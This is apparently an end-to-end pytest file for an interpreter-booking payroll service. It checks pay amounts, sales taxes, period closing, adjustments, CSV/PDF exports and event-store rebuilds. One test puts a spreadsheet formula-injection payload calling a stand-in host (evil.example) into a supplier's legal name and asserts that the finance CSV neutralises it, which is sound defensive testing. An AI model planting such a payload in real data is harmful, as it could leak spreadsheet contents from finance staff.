"""Issue 5's worked examples through the real flow: bookings created, assigned, reported and closed
over HTTP against the system as `make run` starts it; booking's events reach payroll over RabbitMQ;
amounts are read back through the gateway. Then a closed period and an adjustment, the interpreter's
statement, the finance CSV, the PDF statement, the billing report, and a rebuild from zero.

The interpreter's financial record (GST/QST registration) is set by a coordinator on the profile
(PATCH /api/v1/profiles/<user_id>): auth publishes ProfileUpdated on auth.events, from where payroll
takes it (or from auth.events_since on catch-up).
"""
from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from nameko.standalone.rpc import ClusterRpcProxy

from ims_common.testing.wait import wait_until
from ims_common.times import MONTREAL
from tests.api_client import ApiClient, hire
from tests.web_client import web_sign_in

pytestmark = pytest.mark.e2e
PASSWORD = "Correct-Horse-Battery-9!"
ROOT = Path(__file__).resolve().parents[1]
FIRST, SECOND = "2024-11-03", "2024-11-17"   # the biweekly periods of November 2024


def no_float(value, path="$"):
    """Money never travels as a JSON number with a fraction: every float is a failure."""
    assert not isinstance(value, float), f"float at {path}: {value!r}"
    if isinstance(value, dict):
        for k, v in value.items():
            no_float(v, f"{path}.{k}")
    elif isinstance(value, list):
        for i, v in enumerate(value):
            no_float(v, f"{path}[{i}]")


def jget(api: ApiClient, path: str, status: int = 200, **kw):
    resp = api.get(path, **kw)
    assert resp.status_code == status, f"GET {path}: {resp.status_code} {resp.text}"
    data = json.loads(resp.text, parse_float=lambda s: float(s))
    no_float(data)
    return data


@pytest.fixture(scope="module")
def people(system):
    email, password = system.coordinator_credentials()
    coord = ApiClient.login(system.url, email, password)

    def account(role, first, last, **extra):
        body = {"email": f"{first.lower()}.{last.lower()}@example.org", "first_name": first,
                "last_name": last, "role": role, **extra}
        acc = hire(coord, body, PASSWORD)
        return acc, ApiClient.login(system.url, acc["user_id"], PASSWORD)

    return {"coord": coord, "ines": account("interpreter", "Ines", "Paie"),
            "gaston": account("interpreter", "Gaston", "Taxes"),
            "other": account("interpreter", "Otto", "Autre"),
            "requester": account("requester", "Rita", "Paie", establishment="HC")}


def create(coord: ApiClient, date: str, start: str, minutes: int, mode: str = "video", **extra) -> str:
    fields = {"source_language": "Français", "target_language": "Espagnol", "mode": mode,
              "context": "Santé physique", "establishment": "HC", "facility": "HC-HMR",
              "cost_center": "7301120", "cost_center_description": "DA services multidisciplinaires",
              "date": date, "start_time": start, "duration_minutes": minutes,
              "requester_name": "Rita Paie", "requester_phone": "514 555-0101", **extra}
    if mode == "video":
        fields.update(video_platform="Teams", video_link="https://example.org/meet/x")
    if mode == "in_person":
        fields.update(address="5415 boul. de l'Assomption, Montréal", appointment_location="Local 12")
    return coord.ok(coord.post("/bookings", fields), 201)["id"]


def provided(start: str, end: str, **extra) -> dict:
    return {"provided": True, "actual_start": start, "actual_end": end, "wait_minutes": 0,
            "distance_km": "0", "travel_minutes": 0, "communications": [], "words": 0,
            "other_fees_cents": 0, "additional_service": False, "comments": "RAS", **extra}


def serve(coord, interp, interp_api, bid, report, close=True):
    coord.ok(coord.post(f"/bookings/{bid}/assign", {"interpreter_id": interp["user_id"]}))
    interp_api.ok(interp_api.post(f"/bookings/{bid}/report", report))
    if close:
        coord.ok(coord.post(f"/bookings/{bid}/close", {"comment": "Conforme"}))


def remuneration(api: ApiClient, bid: str, kind: str | None = None, **expected) -> dict:
    """The booking's remuneration once payroll has it (and it matches `expected`)."""
    seen = {}

    def ready():
        resp = api.get(f"/bookings/{bid}/remuneration")
        if resp.status_code != 200:
            return False
        seen["item"] = item = resp.json()["items"][0]
        return (kind is None or item["kind"] == kind) and all(item[k] == v for k, v in expected.items())

    try:
        wait_until(ready, timeout=30)
    except Exception:
        raise AssertionError(f"{bid}: expected {kind} {expected}, last seen {seen.get('item')}") from None
    data = jget(api, f"/bookings/{bid}/remuneration")
    return data["items"][0]


def update_financial(coord: ApiClient, user_id: str, financial: dict) -> None:
    profile = coord.ok(coord.request("PATCH", f"/profiles/{user_id}", json={"financial": financial}))
    assert profile["financial"]["gst_registered"] is True


def test_worked_examples_periods_exports_and_rebuild(system, people, tmp_path):
    coord = people["coord"]
    ines, ines_api = people["ines"]
    gaston, gaston_api = people["gaston"]
    other, other_api = people["other"]
    requester_api = people["requester"][1]

    # video, planned 2 h, actual 11:00-13:00 -> Demande 82,00, total 82,00
    a = create(coord, "2024-11-05", "11:00", 120)
    serve(coord, ines, ines_api, a, provided("2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00"))
    rem = remuneration(ines_api, a, "final", demande="82.00", total="82.00")
    assert rem["rate_name"] == "Standard" and rem["rate_description"] == "Heures de bureau"
    assert rem["policy_version"] == "BI-2024-11-04" and rem["period_id"] == FIRST
    assert rem["inputs"]["billed_minutes"] == 120 and rem["gst"] == rem["qst"] == "0.00"

    # phone, actual 30 min -> 82,00 (2-hour minimum)
    b = create(coord, "2024-11-06", "09:00", 30, mode="phone")
    serve(coord, ines, ines_api, b, provided("2024-11-06T09:00:00-05:00", "2024-11-06T09:30:00-05:00"))
    remuneration(ines_api, b, "final", demande="82.00", total="82.00")

    # in person 2024-11-05, planned 2 h 30, actual 2 h 20, one-way 15 km, 60 min of travel
    # -> 2 h 30 billed: 102,50; distance 0,00; travel time 0,00
    c = create(coord, "2024-11-05", "13:00", 150, mode="in_person")
    serve(coord, ines, ines_api, c, provided("2024-11-05T13:00:00-05:00", "2024-11-05T15:20:00-05:00",
                                             distance_km="15", travel_minutes=60))
    rem = remuneration(ines_api, c, "final", demande="102.50", total="102.50")
    assert rem["distance"] == "0.00" and rem["travel_time"] == "0.00"

    # planned 2 h, cancelled Tuesday 10:00 for Wednesday 14:00 same week -> paid as planned: 82,00
    d = create(coord, "2024-11-20", "14:00", 120)
    coord.ok(coord.post(f"/bookings/{d}/assign", {"interpreter_id": ines["user_id"]}))
    coord.ok(coord.post(f"/bookings/{d}/cancel", {"reason": "Patient hospitalisé",
                                                 "cancelled_at": "2024-11-19T10:00:00-05:00"}))
    rem = remuneration(ines_api, d, demande="82.00", total="82.00")
    assert rem["inputs"]["late_cancellation"] is True and rem["period_id"] == SECOND

    # cancelled Monday 09:00 for Thursday 09:00 same week, 2 communications made before -> 20,50
    e = create(coord, "2024-11-21", "09:00", 120)
    coord.ok(coord.post(f"/bookings/{e}/assign", {"interpreter_id": ines["user_id"]}))
    coord.ok(coord.post(f"/bookings/{e}/cancel", {"reason": "Rendez-vous annulé",
                                                 "cancelled_at": "2024-11-18T09:00:00-05:00"}))
    comms = [{"at": "2024-11-15T10:00:00-05:00", "purpose": "Confirmation"},
             {"at": "2024-11-15T14:00:00-05:00", "purpose": "Rappel"}]
    ines_api.ok(ines_api.post(f"/bookings/{e}/report", {
        "provided": False, "reason": "Annulé", "cancelled_at": "2024-11-18T09:00:00-05:00",
        "wait_minutes": 0, "distance_km": "0", "travel_minutes": 0, "communications": comms,
        "words": 0, "other_fees_cents": 0}))
    rem = remuneration(ines_api, e, phone_communications="20.50", total="20.50")
    assert rem["demande"] == "0.00" and rem["inputs"]["late_cancellation"] is False

    # 82,00 for an interpreter registered for GST and QST -> GST 4,10, QST 8,18, total 94,28.
    # Priced first without a financial record; the profile arriving later recomputes it.
    g = create(coord, "2024-11-07", "11:00", 120)
    serve(coord, gaston, gaston_api, g, provided("2024-11-07T11:00:00-05:00", "2024-11-07T13:00:00-05:00"))
    remuneration(gaston_api, g, "final", total="82.00", gst="0.00")
    update_financial(coord, gaston["user_id"], {
        "legal_name": "Gaston Taxes inc.", "supplier_number": "F-102938", "gst_registered": True,
        "gst_number": "123456789RT0001", "gst_from": "2020-01-01",
        "qst_registered": True, "qst_number": "1234567890TQ0001", "qst_from": "2020-01-01"})
    rem = remuneration(gaston_api, g, "final", subtotal="82.00", gst="4.10", qst="8.18", total="94.28")
    assert rem["inputs"]["gst_registered"] is True

    # Who sees a remuneration: its interpreter and coordinators; anyone else gets 404.
    assert coord.get(f"/bookings/{g}/remuneration").status_code == 200
    assert other_api.get(f"/bookings/{g}/remuneration").status_code == 404
    assert requester_api.get(f"/bookings/{g}/remuneration").status_code == 404
    assert ines_api.get(f"/bookings/{g}/remuneration").status_code == 404

    # Statements per period: 82 + 82 + 102,50 in the first, 82 + 20,50 in the second.
    first = jget(ines_api, "/payroll/statements", params={"period": FIRST})
    assert first["totals"]["total"] == "266.50" and len(first["items"]) == 3
    assert jget(ines_api, "/payroll/statements", params={"period": SECOND})["totals"]["total"] == "102.50"
    mine = jget(coord, "/payroll/statements", params={"period": FIRST, "interpreter_id": gaston["user_id"]})
    assert mine["supplier_number"] == "F-102938" and mine["totals"]["total"] == "94.28"
    assert ines_api.get("/payroll/statements", params={"period": FIRST,
                                                       "interpreter_id": gaston["user_id"]}).status_code == 404

    # Closing a period freezes it; a later correction is an adjustment in the next open period.
    periods = {p["id"]: p for p in jget(coord, "/payroll/periods")["items"]}
    assert periods[FIRST]["status"] == "open"
    assert ines_api.post(f"/payroll/periods/{FIRST}/close").status_code == 403
    closed = coord.ok(coord.post(f"/payroll/periods/{FIRST}/close"))
    assert closed["status"] == "closed" and closed["id"] == FIRST
    assert coord.post(f"/payroll/periods/{FIRST}/close").status_code == 409
    coord.ok(coord.post(f"/bookings/{a}/correct-report", provided(
        "2024-11-05T11:00:00-05:00", "2024-11-05T13:30:00-05:00", overtime_reason="Patient en retard")))
    rem = remuneration(coord, a, "final", total="102.50")
    assert [(x["period_id"], x["kind"], x["total"]) for x in rem["entries"]] == [
        (FIRST, "final", "82.00"), (SECOND, "adjustment", "20.50")]
    assert jget(ines_api, "/payroll/statements", params={"period": FIRST})["totals"]["total"] == "266.50"
    second = jget(ines_api, "/payroll/statements", params={"period": SECOND})
    assert second["totals"]["total"] == "123.00"
    assert ("adjustment", "20.50") in [(i["kind"], i["total"]) for i in second["items"]]

    # Finance CSV: one line per interpreter, exact decimals.
    resp = coord.get(f"/payroll/periods/{FIRST}/export.csv")
    assert resp.status_code == 200 and resp.headers["Content-Type"].startswith("text/csv")
    assert resp.content.startswith(b"\xef\xbb\xbfinterpreter_id,")      # UTF-8 with BOM
    rows = {r["interpreter_id"]: r for r in csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig")))}
    assert {r["state"] for r in rows.values()} == {"final"}
    assert set(rows) == {ines["user_id"], gaston["user_id"]}
    assert rows[gaston["user_id"]]["supplier_number"] == "F-102938"
    assert rows[gaston["user_id"]]["legal_name"] == "Gaston Taxes inc."
    assert (rows[gaston["user_id"]]["gst"], rows[gaston["user_id"]]["qst"]) == ("4.10", "8.18")
    assert Decimal(rows[ines["user_id"]]["total"]) == Decimal("266.50")
    assert ines_api.get(f"/payroll/periods/{FIRST}/export.csv").status_code == 403

    # PDF statement.
    resp = gaston_api.get(f"/payroll/periods/{FIRST}/statements/{gaston['user_id']}.pdf")
    assert resp.status_code == 200 and resp.headers["Content-Type"] == "application/pdf"
    assert resp.content.startswith(b"%PDF") and b"/Type /Page" in resp.content
    assert ines_api.get(f"/payroll/periods/{FIRST}/statements/{gaston['user_id']}.pdf").status_code == 404

    # Billing per establishment and cost center.
    billing = jget(coord, "/payroll/billing", params={"period": FIRST})
    assert [(i["establishment"], i["cost_center"], i["total"]) for i in billing["items"]] == [
        ("HC", "7301120", "360.78")]

    # Pay policy: viewable by coordinators, only admins add versions.
    versions = jget(coord, "/payroll/policies")["items"]
    assert [v["version"] for v in versions] == ["BI-legacy", "BI-2024-11-04"]
    assert versions[-1]["hourly_rate"] == "41.00"
    assert coord.post("/payroll/policies", {"version": "X", "effective_from": "2099-01-01"}).status_code == 403

    # payroll published each computation on payroll.events (its store's events_since shows them).
    with ClusterRpcProxy({"AMQP_URI": system.amqp_uri}) as rpc:
        calculated = [ev for ev in rpc.payroll.events_since(0, 1000) if ev["type"] == "RemunerationCalculated"]
        assert {"provisional", "final", "adjustment"} <= {ev["data"]["kind"] for ev in calculated}
        for ev in calculated:
            no_float(ev["data"])
        live = rpc.payroll.totals()

    # Rebuild from zero, on a copy of payroll's store, through booking's and auth's events_since.
    copy = tmp_path / "payroll-copy.sqlite3"
    with sqlite3.connect(system.data_dir / "payroll.sqlite3") as src, sqlite3.connect(copy) as dst:
        src.backup(dst)
    env = dict(os.environ, AMQP_URI=system.amqp_uri, PAYROLL_STORE_URL=f"sqlite:///{copy}",
               PYTHONPATH=str(ROOT))
    out = subprocess.run([sys.executable, "-m", "services.payroll.cli", "rebuild"], cwd=ROOT, env=env,
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout.strip().splitlines()[-1])
    assert result["identical"] is True
    assert result["after"] == live
    assert result["after"]["periods"][FIRST][gaston["user_id"]]["total"] == "94.28"


def test_the_cancel_confirmation_warns_by_the_policy_in_force(system, people):
    """The page before a requester cancels says when the cancellation will be billed. The rule is
    payroll's, editable: an admin widens the window to 400 business hours from next week, and a
    service ten days ahead is then inside it, while one 45 days ahead is not; a late cancellation of
    a translation is not billed as planned, so it gets no warning either."""
    out = subprocess.run([sys.executable, "-m", "services.auth.cli", "create-account", "--email", "ada.admin@example.org",
                          "--first-name", "Ada", "--last-name", "Admin", "--role", "admin", "--password", PASSWORD],
                         cwd=ROOT, env=dict(os.environ, IMS_DATA_DIR=str(system.data_dir), PYTHONPATH=str(ROOT)),
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    admin = ApiClient.login(system.url, "ada.admin@example.org", PASSWORD)
    today = datetime.now(MONTREAL).date()
    admin.ok(admin.post("/payroll/policies", {"version": "BI-test-400", "effective_from": str(today + timedelta(days=3)),
                                               "late_cancellation_business_hours": 400}), 201)
    requester_api = people["requester"][1]
    rita = requester_api.ok(requester_api.get("/me"))
    web = web_sign_in(system.url, rita["email"], PASSWORD)

    def warned(days: int, mode: str = "video") -> bool:
        fields = {"source_language": "Français", "target_language": "Espagnol", "mode": mode, "establishment": "HC",
                  "cost_center": "7301120", "requester_name": "Rita Paie", "requester_phone": "514 555-0101"}
        if mode == "document_translation":
            fields["due_date"] = str(today + timedelta(days=days))
        else:
            fields.update(date=str(today + timedelta(days=days)), start_time="10:00", duration_minutes=120,
                          video_platform="Teams", video_link="https://example.org/meet/x")
        bid = requester_api.ok(requester_api.post("/bookings", fields), 201)["id"]
        page = web.get(f"{system.url}/reservations/{bid}/confirmer/cancel", timeout=15, allow_redirects=False)
        assert page.status_code == 200 and bid in page.text
        return "Cette annulation sera facturée" in page.text

    assert warned(10) is True           # 48 business hours would leave it unbilled
    assert warned(45) is False
    assert warned(10, "document_translation") is False


def items_of(api: ApiClient, bid: str, ready) -> list[dict]:
    """The booking's remuneration items once `ready(items)` holds."""
    seen = {}

    def check():
        resp = api.get(f"/bookings/{bid}/remuneration")
        seen["items"] = resp.json()["items"] if resp.status_code == 200 else []
        return bool(seen["items"]) and ready(seen["items"])

    try:
        wait_until(check, timeout=45)
    except Exception:
        raise AssertionError(f"{bid}: last seen {seen.get('items')}") from None
    return jget(api, f"/bookings/{bid}/remuneration")["items"]


def fee_and(item: dict, key: str) -> dict:
    return next(line for line in item["lines"] if line["key"] == key)


def test_pay_the_bank_can_sign_off(system, people, tmp_path):
    """Issue 16 through the running system: each line's rule, the mileage checked against the
    reference data, a cancellation with a report validated and then corrected by the bank only,
    implausible reports refused or flagged, a withdrawal paid its communications only, periods that
    close only when ended and with every provisional amount validated or carried, and a finance CSV
    a spreadsheet cannot run."""
    coord = people["coord"]
    ines, ines_api = people["ines"]
    body = {"email": "hugo.lointain@example.org", "first_name": "Hugo", "last_name": "Lointain",
            "role": "interpreter"}
    hugo = hire(coord, body, PASSWORD)
    hugo_api = ApiClient.login(system.url, hugo["user_id"], PASSWORD)
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Détails")'
    coord.ok(coord.request("PATCH", f"/profiles/{hugo['user_id']}", json={
        "region": "14-Lanaudière", "financial": {"legal_name": evil, "supplier_number": "+1",
                                                 "gst_registered": False, "qst_registered": False}}))
    coord.ok(coord.request("PATCH", f"/profiles/{ines['user_id']}", json={"region": "06-Montréal"}))
    period, after = "2025-01-12", "2025-01-26"

    # The rule of each line, in French and English.
    a = create(coord, "2025-01-14", "10:00", 120)
    serve(coord, hugo, hugo_api, a, provided("2025-01-14T10:00:00-05:00", "2025-01-14T12:00:00-05:00"))
    item = remuneration(hugo_api, a, "final", total="82.00")
    assert fee_and(item, "demande")["rule"] == {"fr": "2 h minimum à 41,00\u00a0$/h, politique BI-2024-11-04",
                                                 "en": "2 h minimum at $41.00/h, policy BI-2024-11-04"}

    # 450 km one way to Maisonneuve-Rosemont: from the Lanaudière head office (Joliette) the road is
    # about 62,5 km, so the claim is paid at that figure and flagged; from Montréal's (7,7 km) nothing.
    far = create(coord, "2025-01-15", "10:00", 120, mode="in_person", facility="HC-HMR")
    serve(coord, hugo, hugo_api, far, provided("2025-01-15T10:00:00-05:00", "2025-01-15T12:00:00-05:00",
                                               distance_km="450"))
    item = remuneration(coord, far, "final", distance="60.00")
    assert "mileage_reduced" in item["flags"]
    assert (item["inputs"]["claimed_km"], item["inputs"]["computed_km"]) == ("450.00", "62.5")
    near = create(coord, "2025-01-15", "14:00", 120, mode="in_person", facility="HC-HMR")
    serve(coord, ines, ines_api, near, provided("2025-01-15T14:00:00-05:00", "2025-01-15T16:00:00-05:00",
                                                distance_km="450"), close=False)
    item = remuneration(coord, near, distance="0.00", total="82.00")
    assert {"mileage_reduced", "mileage_below_threshold"} <= set(item["flags"])
    assert "Distance calculée de 7,7\u00a0km" in fee_and(item, "distance")["rule"]["fr"]
    coord.ok(coord.post(f"/bookings/{near}/close", {"comment": "Kilométrage vérifié"}))

    # A late cancellation with a report goes through validation and becomes final; afterwards only
    # the bank corrects it.
    c = create(coord, "2025-01-16", "14:00", 120)
    coord.ok(coord.post(f"/bookings/{c}/assign", {"interpreter_id": hugo["user_id"]}))
    coord.ok(coord.post(f"/bookings/{c}/cancel", {"reason": "Usager hospitalisé",
                                                 "cancelled_at": "2025-01-15T10:00:00-05:00"}))
    one_call = [{"at": "2025-01-10T10:00:00-05:00", "purpose": "Confirmation du rendez-vous"}]
    not_provided = {"provided": False, "reason": "Annulation tardive", "cancelled_at": "2025-01-15T10:00:00-05:00",
                    "communications": one_call}
    hugo_api.ok(hugo_api.post(f"/bookings/{c}/report", not_provided))
    remuneration(hugo_api, c, "provisional", total="92.25")
    closed = coord.ok(coord.post(f"/bookings/{c}/close", {"comment": "Annulation tardive vérifiée"}))
    assert closed["status"] == "cancelled" and closed["closed_at"]
    remuneration(hugo_api, c, "final", total="92.25")
    late = hugo_api.post(f"/bookings/{c}/correct-report", dict(not_provided, communications=one_call * 2))
    assert late.status_code == 409 and late.json()["error"]["code"] == "booking.validated"
    assert "seule la coordination" in late.json()["error"]["message"]

    # Implausible reports: refused when impossible, flagged when unusual.
    p = create(coord, "2025-01-17", "10:00", 120)
    coord.ok(coord.post(f"/bookings/{p}/assign", {"interpreter_id": hugo["user_id"]}))
    refused = hugo_api.post(f"/bookings/{p}/report", provided("2099-01-17T10:00:00-05:00", "2099-01-17T12:00:00-05:00"))
    assert refused.status_code in (400, 422) and set(refused.json()["error"]["fields"]) == {"actual_start", "actual_end"}
    assert "futur" in refused.json()["error"]["fields"]["actual_end"][0]
    tomorrow = (datetime.now(MONTREAL) + timedelta(days=1)).isoformat(timespec="seconds")
    refused = hugo_api.post(f"/bookings/{p}/report", provided(
        "2025-01-17T10:00:00-05:00", "2025-01-17T12:00:00-05:00", communications=[{"at": tomorrow, "purpose": "x"}]))
    assert refused.status_code in (400, 422) and "communications.0.at" in refused.json()["error"]["fields"]
    hugo_api.ok(hugo_api.post(f"/bookings/{p}/report", provided("2025-01-18T08:00:00-05:00",
                                                                "2025-01-18T10:00:00-05:00")))
    item = remuneration(coord, p, "provisional", total="82.00")
    assert "actual_times_outside_window" in item["flags"]

    # A withdrawal 26 h before the start, by the bank, with 2 communications: 20,50 (was 102,50).
    start = (datetime.now(MONTREAL) + timedelta(hours=26)).replace(second=0, microsecond=0)
    w = create(coord, start.date().isoformat(), start.strftime("%H:%M"), 120)
    coord.ok(coord.post(f"/bookings/{w}/assign", {"interpreter_id": ines["user_id"]}))
    made = [{"at": (datetime.now(MONTREAL) - timedelta(hours=h)).isoformat(timespec="seconds"), "purpose": "Appel"}
            for h in (30, 5)]
    coord.ok(coord.post(f"/bookings/{w}/withdraw", {"reason": "Appel de l'interprète", "communications": made}))
    coord.ok(coord.post(f"/bookings/{w}/assign", {"interpreter_id": hugo["user_id"]}))
    [withdrawn] = items_of(coord, w, lambda items: any(i["withdrawal"] for i in items))
    assert (withdrawn["interpreter_id"], withdrawn["demande"], withdrawn["total"]) == (ines["user_id"], "0.00", "20.50")

    # Periods: one that has not ended cannot close; one holding a provisional amount closes once it
    # is validated or carried; the carried amount waits in the next period.
    resp = coord.post("/payroll/periods/2030-05-26/close")
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "payroll.period_not_ended"
    resp = coord.post(f"/payroll/periods/{period}/close")
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "payroll.period_has_provisional"
    assert "provisoire" in resp.json()["error"]["message"]
    held = jget(coord, f"/payroll/periods/{period}")
    assert [i["booking_id"] for i in held["provisional_items"]] == [p]
    closed = coord.ok(coord.post(f"/payroll/periods/{period}/close",
                                 {"carry": [i["key"] for i in held["provisional_items"]]}))
    assert (closed["status"], closed["carried"], closed["provisional"]) == ("closed", 1, 0)
    assert [i["booking_id"] for i in jget(coord, f"/payroll/periods/{after}")["provisional_items"]] == [p]

    # After validation and closing, the bank's correction is an adjustment in the next open period.
    coord.ok(coord.post(f"/bookings/{c}/correct-report", dict(not_provided, communications=one_call + [
        {"at": "2025-01-11T10:00:00-05:00", "purpose": "Rappel"}])))
    item = remuneration(coord, c, "final", total="102.50")
    assert [(e["period_id"], e["kind"], e["total"]) for e in item["entries"]] == [
        (period, "final", "92.25"), (after, "adjustment", "10.25")]

    # The finance export: BOM, formulas neutralised, each line's state.
    resp = coord.get(f"/payroll/periods/{period}/export.csv")
    assert resp.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
    mine = [r for r in rows if r["interpreter_id"] == hugo["user_id"]]
    assert [(r["legal_name"], r["supplier_number"], r["state"]) for r in mine] == [("'" + evil, "'+1", "final")]
    assert Decimal(mine[0]["total"]) == Decimal("82.00") + Decimal("60.00") + 82 + Decimal("92.25")   # a, far, its fee, c
    rows = list(csv.DictReader(io.StringIO(coord.get(f"/payroll/periods/{after}/export.csv").content.decode("utf-8-sig"))))
    assert {(r["state"], r["total"]) for r in rows if r["interpreter_id"] == hugo["user_id"]} == {
        ("adjustment", "10.25"), ("provisional", "82.00")}

    # The statement PDF names each line's rule (its text is checked in services/payroll/tests).
    pdf = hugo_api.get(f"/payroll/periods/{period}/statements/{hugo['user_id']}.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")

    # A rebuild from zero gives the same amounts, the reference data and the carry included.
    with ClusterRpcProxy({"AMQP_URI": system.amqp_uri}) as rpc:
        live = rpc.payroll.totals()
    copy = tmp_path / "payroll-copy.sqlite3"
    with sqlite3.connect(system.data_dir / "payroll.sqlite3") as src, sqlite3.connect(copy) as dst:
        src.backup(dst)
    env = dict(os.environ, AMQP_URI=system.amqp_uri, PAYROLL_STORE_URL=f"sqlite:///{copy}", PYTHONPATH=str(ROOT))
    out = subprocess.run([sys.executable, "-m", "services.payroll.cli", "rebuild"], cwd=ROOT, env=env,
                         capture_output=True, text=True, timeout=180)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout.strip().splitlines()[-1])
    assert result["identical"] is True and result["after"] == live
